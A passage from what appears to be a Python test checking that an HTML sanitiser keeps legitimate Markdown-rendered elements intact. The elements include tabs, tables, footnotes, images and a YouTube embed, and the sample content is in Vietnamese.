=== "Trực tuyến"
    Nộp trên Cổng.

| Cột | Số |
|:----|---:|
| a   | 1  |

Thuật ngữ
:   Định nghĩa.

<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315" title="Video" allowfullscreen></iframe>

[^1]: Chú thích.
"""
    html = _markdown_html(markdown)
    clean = SANITISER.clean(html)
    tree = lxml.html.fromstring(f"<div>{clean}</div>")
    assert tree.xpath("//h2[@id='muc-mot']/a[@class='headerlink' and @href='#muc-mot']")
    assert tree.xpath("//strong") and tree.xpath("//em") and tree.xpath("//del") and tree.xpath("//ins")
    assert tree.xpath("//mark") and tree.xpath("//sub") and tree.xpath("//sup[@id='fnref:1']")
    assert tree.xpath("//a[@href='../a.pdf' and @title='Tiêu đề']") and tree.xpath("//abbr[@title]")
    assert tree.xpath("//img[@src='anh.jpg' and @alt='Ảnh hội nghị' and @width='300' and @loading='lazy']")
    assert tree.xpath("//div[@class='admonition note']/p[@class='admonition-title']")
    assert tree.xpath("//details[@class='tip']/summary")
    assert tree.xpath("//input[@type='radio' and @id='__tabbed_1_1' and @name='__tabbed_1']")
    assert tree.xpath("//label[@for='__tabbed_1_2']")
    assert tree.xpath("//td[@style='text-align:right']") and tree.xpath("//dl/dt") and tree.xpath("//li[@id='fn:1']")
    assert tree.xpath("//iframe[@src='https://www.youtube-nocookie.com/embed/abc' and @title='Video' and @allowfullscreen]")
    # Apart from how the serialiser writes void elements, entities and styles, nothing changed.
    normalised = lxml.html.tostring(lxml.html.fromstring(f"<div>{html}</div>"), encoding="unicode")
    normalised = normalised.replace("text-align: right;", "text-align:right").replace("text-align: left;", "text-align:left")
    assert lxml.html.tostring(tree, encoding="unicode").replace('allowfullscreen=""', "allowfullscreen") == normalised
